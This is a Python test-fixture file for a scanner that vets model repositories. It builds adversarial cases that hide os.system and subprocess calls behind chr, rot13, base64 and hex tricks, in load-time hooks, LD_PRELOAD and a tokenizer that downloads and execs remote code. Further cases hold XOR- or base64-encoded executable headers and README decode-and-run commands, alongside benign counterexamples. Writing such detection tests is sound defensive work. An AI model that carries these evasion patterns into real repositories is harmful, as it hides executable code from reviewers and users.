"""Adversarial and hard-benign repo shapes for remote code and encoded binaries (issue 12, items 2 and 7).

Each case is (name, files, expected) plus the reasoning: how transformers / vLLM / pip would load
the repo, and what an attacker writes to slip past a literal-minded scanner. Files are text or
bytes built here at test time; payloads are inert strings (``echo hfvet-test``) and executables
are bare headers. Nothing here is ever imported, run or decoded into a file by the tests.

``CASES`` is what a corpus registry (or the test beside it) iterates.
"""

from __future__ import annotations

import base64
import gzip
import zlib
from dataclasses import dataclass, field

from tests.unit.core.scanners.test_binary_scanner import elf, macho, pe

THIRD_PARTY = "canada-quant/Model-W4A16"
VENDOR = "nvidia/Model-NVFP4"
CMD = "echo hfvet-test"


@dataclass(frozen=True)
class Expected:
    verdict: str  # under policies/default.yaml: "reject", or for hard-benign cases "review"/"approve"
    rules: dict[str, str] = field(default_factory=dict)  # rule -> lowest acceptable severity
    absent: tuple[str, ...] = ()  # rules that must not fire
    message: str | None = None  # a phrase some finding's message must contain


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, str | bytes]
    expected: Expected
    why: str
    repo: str = THIRD_PARTY


def _b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.b64encode(raw).decode()


def _chr_list(text: str) -> str:
    return repr([ord(c) for c in text])


_CONFIG = '{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}'
REJECT_CRITICAL = {"remote-code-dangerous": "critical"}
REJECT_HIGH = {"remote-code-dangerous": "high"}

# ---- item 2: call targets built from constants ------------------------------------------------

CONSTANT_TARGETS = [
    Case("chr-sequence-names",
         {"modeling_x.py": f'_m = __import__("".join(chr(c) for c in {_chr_list("os")}))\n'
                           f'_f = getattr(_m, "".join(map(chr, {_chr_list("system")})))\n_f("{CMD}")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "Names spelled as chr() code points, bound to variables and called later: no literal says os.system."),
    Case("bytes-list-decode",
         {"modeling_x.py": f'mod = __import__(bytes({_chr_list("subprocess")}).decode())\n'
                           f'mod.run(["sh", "-c", "{CMD}"])\n'},
         Expected("reject", REJECT_CRITICAL, message="subprocess.run"),
         "bytes([...]).decode() of a module name; the old resolver saw only `mod.run`."),
    Case("rot13-codecs",
         {"modeling_x.py": 'import codecs\n'
                           'getattr(__import__(codecs.decode("bf", "rot13")), codecs.decode("flfgrz", "rot13"))'
                           f'("{CMD}")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "codecs.decode(.., 'rot13') is a classic PyPI-malware spelling of 'os'/'system'."),
    Case("base64-import-module",
         {"modeling_x.py": 'import base64, importlib\n'
                           f'm = importlib.import_module(base64.b64decode("{_b64("subprocess")}").decode())\n'
                           f'm.check_output("{CMD}", shell=True)\n'},
         Expected("reject", REJECT_CRITICAL, message="subprocess.check_output"),
         "importlib.import_module of a base64 constant, result kept in a variable."),
    Case("hex-fromhex",
         {"modeling_x.py": f'getattr(__import__(bytes.fromhex("{b"os".hex()}").decode()), '
                           f'bytes.fromhex("{b"system".hex()}").decode())("{CMD}")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "bytes.fromhex of constants."),
    Case("fstring-name",
         {"modeling_x.py": f'import os\n_a = "sys"\ngetattr(os, f"{{_a}}tem")("{CMD}")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "An f-string of constants is still a constant."),
    Case("vars-builtins-exec",
         {"modeling_x.py": 'import builtins\n'
                           f'vars(builtins)["ex" + "ec"]("import os\\nos.system(\'{CMD}\')")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "exec reached through builtins' dict; the code string is then walked like any module."),
    Case("globals-builtins",
         {"modeling_x.py": f'globals()["__builtins__"]["exec"]("import os\\nos.system(\'{CMD}\')")\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "In an imported module globals()['__builtins__'] is the builtins dict."),
    Case("dunder-import-dotted",
         {"modeling_x.py": f'__import__("os.path").system("{CMD}")\n'},
         Expected("reject", REJECT_HIGH, message="os.system"),
         "__import__('os.path') returns the top package os (no fromlist): .system is os.system, not os.path.system."),
    Case("exec-of-base64-code",
         {"modeling_x.py": f'import base64\nexec(base64.b64decode("{_b64(f"import os; os.system({CMD!r})")}"))\n'},
         Expected("reject", REJECT_CRITICAL, message="os.system"),
         "exec of a decoded constant: decoded statically and analysed, and hiding code is itself an indicator."),
]

# ---- item 2: what runs while the runtime loads the classes ------------------------------------

LOAD_TIME = [
    Case("init-weights-hook",
         {"config.json": _CONFIG,
          "modeling_x.py": "import subprocess\nfrom transformers import PreTrainedModel\n"
                           "class XModel(PreTrainedModel):\n"
                           "    def _init_weights(self, module):\n"
                           f"        subprocess.run({CMD!r}, shell=True)\n"},
         Expected("reject", REJECT_HIGH, message="_init_weights"),
         "from_pretrained -> __init__ -> post_init -> init_weights -> _init_weights: runs on every load."),
    Case("decorator-body",
         {"modeling_x.py": f"import os\ndef register(cls):\n    os.system({CMD!r})\n    return cls\n"
                           "@register\nclass XModel:\n    pass\n"},
         Expected("reject", REJECT_HIGH),
         "A class decorator runs when the class statement runs, i.e. on import."),
    Case("same-module-call-chain",
         {"modeling_x.py": f"import os\ndef _prepare():\n    os.system({CMD!r})\n"
                           "class XModel:\n    def __init__(self, config):\n        self._setup()\n"
                           "    def _setup(self):\n        _prepare()\n"},
         Expected("reject", REJECT_HIGH, message="called from"),
         "__init__ -> self._setup() -> _prepare(): the spawn is two calls away from the constructor."),
    Case("cross-module-helper",
         {"config.json": _CONFIG,
          "utils_x.py": f"import subprocess\ndef fetch_kernels():\n    subprocess.Popen(['sh', '-c', {CMD!r}])\n",
          "modeling_x.py": "from .utils_x import fetch_kernels\nclass XModel:\n"
                           "    def __init__(self, config):\n        fetch_kernels()\n"},
         Expected("reject", REJECT_HIGH, message="utils_x"),
         "transformers copies every imported repo module beside modeling_x.py; the helper's spawn runs at load."),
    Case("tokenizer-from-pretrained-download",
         {"tokenization_x.py": "import urllib.request\nclass XTokenizer:\n"
                               "    @classmethod\n    def from_pretrained(cls, path, **kw):\n"
                               "        code = urllib.request.urlopen('http://x.invalid/t').read()\n"
                               "        exec(code)\n"},
         Expected("reject", REJECT_CRITICAL),
         "A tokenizer's from_pretrained override downloads and execs."),
    Case("setup-py-cmdclass",
         {"setup.py": "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
                      f"class Post(install):\n    def run(self):\n        os.system({CMD!r})\n"
                      "setup(name='x', cmdclass={'install': Post})\n",
          "README.md": "pip install .\n"},
         Expected("reject", {"remote-code-dangerous": "high", "install-time-code": "low"}),
         "pip install runs setup.py and the cmdclass commands: every function is install time."),
    Case("in-tree-build-backend",
         {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
          "backend.py": f"import os\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
                        f"    os.system({CMD!r})\n    return 'x.whl'\n"},
         Expected("reject", {"remote-code-dangerous": "high", "in-tree-build-backend": "medium"}),
         "PEP 517 backend-path makes pip import the repo's own backend.py and call build_wheel."),
]

# ---- item 2: native code, other repos --------------------------------------------------------

NATIVE_AND_REPOS = [
    Case("shipped-extension-import",
         {"modeling_x.py": "from . import _kernels\n", "_kernels.cpython-311-x86_64-linux-gnu.so": elf()},
         Expected("reject", {"remote-code-dangerous": "high", "executable-binary": "high"}, message="_kernels"),
         "Importing a shipped extension module runs its native init on import."),
    Case("ctypes-and-spec-loader",
         {"modeling_x.py": "import ctypes, importlib.util\nctypes.cdll.LoadLibrary('./libk.bin')\n"
                           "spec = importlib.util.spec_from_file_location('k', './k.data')\n"},
         Expected("reject", REJECT_HIGH, message="spec_from_file_location"),
         "LoadLibrary and spec_from_file_location load a file of any name as code."),
    Case("ld-preload-from-python",
         {"modeling_x.py": "import os\nos.environ['LD_PRELOAD'] = './libhook.so'\n"},
         Expected("reject", REJECT_HIGH, message="LD_PRELOAD"),
         "Every process the model later starts loads the library."),
    Case("decoded-repo-id-with-remote-code",
         {"modeling_x.py": "import base64\nfrom transformers import AutoModel\n"
                           f"AutoModel.from_pretrained(base64.b64decode('{_b64('evil/encoder')}').decode(), "
                           "trust_remote_code=True)\n"},
         Expected("reject", REJECT_HIGH, message="evil/encoder"),
         "The other repo's name is folded, so the report names the repo whose code would run."),
    Case("runtime-repo-id",
         {"modeling_x.py": "import os\nfrom huggingface_hub import hf_hub_download\n"
                           "class XModel:\n    def __init__(self, config):\n"
                           "        hf_hub_download(os.environ['KREPO'], 'k.py')\n"
                           "        AutoModel.from_pretrained('org/x', trust_remote_code=os.getenv('T') == '1')\n"},
         Expected("review", {"remote-code-suspicious": "medium"}, message="computed at run time"),
         "A repo id or trust_remote_code decided at run time cannot be vetted now: a human reads it."),
]

# ---- item 7: encoded executables and the lines that stage them ---------------------------------

_KEY = 0x5A

ENCODED = [
    Case("xor-elf", {"kernel.bin": bytes(b ^ _KEY for b in elf())},
         Expected("reject", {"encoded-executable": "high"}, message="key 0x5a"),
         "Single-byte XOR: the key is the first byte XOR 0x7f, confirmed on the whole ELF header."),
    Case("xor-pe", {"tool.dat": bytes(b ^ 0xA7 for b in pe())},
         Expected("reject", {"encoded-executable": "high"}, message="PE"),
         "XOR'd PE: MZ alone is two bytes, so the decoded e_lfanew must lead to PE\\0\\0."),
    Case("base64-elf", {"weights.txt": base64.encodebytes(elf()).decode()},
         Expected("reject", {"encoded-executable": "high"}, message="base64"),
         "A line-wrapped base64 text file (what `base64 libk.so > weights.txt` writes)."),
    Case("hex-pe", {"blob.hex": pe().hex()},
         Expected("reject", {"encoded-executable": "high"}, message="hex"), "Plain hex, as `xxd -p` writes it."),
    Case("xxd-dump-elf", {"dump.txt": "".join(
        f"{i:08x}: {' '.join(elf()[i:i + 16][j:j + 2].hex() for j in range(0, 16, 2))}  ................\n"
        for i in range(0, 256, 16))},
         Expected("reject", {"encoded-executable": "high"}, message="xxd"), "An xxd dump that `xxd -r` restores."),
    Case("zlib-elf", {"cache.z": zlib.compress(elf())},
         Expected("reject", {"encoded-executable": "high"}, message="zlib"), "zlib stream of an ELF."),
    Case("base64-gzip-macho", {"assets.b64": _b64(gzip.compress(macho()))},
         Expected("reject", {"encoded-executable": "high"}, message="base64 -> gzip"),
         "Two layers: base64 of gzip of a Mach-O dylib."),
    Case("card-decodes-shipped-file",
         {"README.md": "Setup:\n```\nbase64 -d kernel.b64 > libk.so && chmod +x libk.so\n```\n",
          "kernel.b64": _b64(b"not an executable, but the card says what it becomes")},
         Expected("reject", {"decodes-shipped-file": "high"}, message="kernel.b64"),
         "The card turns a shipped text file into a library: what runs is not what was vetted."),
    Case("card-xxd-reverse",
         {"install.sh": "xxd -r -p payload.hex > run && ./run\n", "payload.hex": "00" * 40},
         Expected("reject", {"decodes-shipped-file": "high"}), "xxd -r of a shipped hex file."),
    Case("card-preloads-shipped-library",
         {"README.md": "Run with `LD_PRELOAD=./libhook.so python serve.py`\n", "libhook.so": elf()},
         Expected("reject", {"preloads-shipped-library": "high", "executable-binary": "high"}),
         "LD_PRELOAD of a shipped library injects it into the serving process."),
]

# ---- hard-benign: real vendor shapes that must not be rejected --------------------------------

PROCESSOR = '''
import subprocess
from io import BytesIO

import requests
from PIL import Image
from transformers import ProcessorMixin


class XProcessor(ProcessorMixin):
    attributes = ["image_processor", "tokenizer"]

    def __init__(self, image_processor=None, tokenizer=None, **kwargs):
        super().__init__(image_processor, tokenizer, **kwargs)

    def fetch_image(self, url):
        return Image.open(BytesIO(requests.get(url, timeout=10).content))

    def read_video(self, path, fps=2):
        cmd = ["ffmpeg", "-i", path, "-vf", f"fps={fps}", "-f", "image2pipe", "-"]
        return subprocess.run(cmd, capture_output=True, check=True).stdout
'''

MODEL = '''
import math
import torch
from torch import nn
from transformers import PreTrainedModel, AutoModel


class XModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=1 / math.sqrt(module.in_features))

    @classmethod
    def from_pretrained(cls, pretrained_model_name_or_path, *args, trust_remote_code=False, **kwargs):
        return super().from_pretrained(pretrained_model_name_or_path, *args,
                                       trust_remote_code=trust_remote_code, **kwargs)

    @property
    def dtype_name(self):
        return str(self.proj.weight.dtype)
'''

TIKTOKEN_TOKENIZER = '''
import base64
from transformers import PreTrainedTokenizer

VOCAB_FILES_NAMES = {"vocab_file": "qwen.tiktoken"}


class XTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file="qwen.tiktoken", **kwargs):
        self.ranks = {base64.b64decode(t): int(r) for t, r in (l.split() for l in open("qwen.tiktoken", "rb"))}
        super().__init__(**kwargs)

    def get_vocab(self):
        return {k.decode("latin-1"): v for k, v in self.ranks.items()}
'''

INFERENCE_SCRIPT = '''
import argparse
import subprocess

from transformers import AutoModelForCausalLM


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--model", default=".")
    parser.add_argument("--trust-remote-code", action="store_true")
    args = parser.parse_args()
    model = AutoModelForCausalLM.from_pretrained(args.model, trust_remote_code=args.trust_remote_code)
    subprocess.run(["nvidia-smi"], check=False)
    return model


if __name__ == "__main__":
    main()
'''

HARD_BENIGN = [
    Case("vendor-multimodal-processor", {"processing_x.py": PROCESSOR, "preprocessor_config.json": "{}"},
         Expected("review", {"remote-code-unlinked": "high"}, absent=("remote-code-dangerous",),
                  message="no data flow"),
         "Downloads an image in one method and runs ffmpeg (a constant program) in another: review, not reject.",
         repo=VENDOR),
    Case("third-party-multimodal-processor", {"processing_x.py": PROCESSOR},
         Expected("review", {"remote-code-unlinked": "high"}, absent=("remote-code-dangerous",)),
         "The same processor under a third party: still a review, with the reason in the finding."),
    Case("plain-model-with-load-hooks", {"modeling_x.py": MODEL, "config.json": _CONFIG},
         Expected("review", {"remote-code": "low"},
                  absent=("remote-code-dangerous", "remote-code-suspicious", "remote-code-unlinked")),
         "post_init/_init_weights/from_pretrained forwarding the repo id and the caller's trust_remote_code: "
         "load-time code that does nothing dangerous.", repo=VENDOR),
    Case("vendor-card-system-preload",
         {"README.md": "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\nbase64 --help\n",
          "generation_config.json": '{"do_sample": true}'},
         Expected("approve", absent=("preloads-shipped-library", "decodes-shipped-file")),
         "tcmalloc from the system is not a shipped file.", repo=VENDOR),
    Case("tiktoken-tokenizer", {"tokenization_x.py": TIKTOKEN_TOKENIZER,
                                "qwen.tiktoken": "IQ== 0\nIg== 1\nIw== 2\n" * 20},
         Expected("approve", absent=("decodes-shipped-file", "remote-code-dangerous", "encoded-executable")),
         "A tiktoken tokenizer base64-decodes its shipped vocabulary in __init__: data, not code.", repo=VENDOR),
    Case("vendor-inference-script", {"run_inference.py": INFERENCE_SCRIPT},
         Expected("review", {"remote-code-suspicious": "medium"}, absent=("remote-code-dangerous",),
                  message="computed at run time"),
         "A CLI script loads the model the user names and runs nvidia-smi under a main guard: the run-time "
         "repo id is what a reviewer is asked to look at.", repo=VENDOR),
    Case("hex-digest-list", {"checksums.txt": "\n".join(f"{i:064x}  model-{i}.safetensors" for i in range(20))},
         Expected("review", absent=("encoded-executable",)),
         "sha256 lists are hex text that decodes to nothing executable."),
]

CASES: list[Case] = CONSTANT_TARGETS + LOAD_TIME + NATIVE_AND_REPOS + ENCODED + HARD_BENIGN
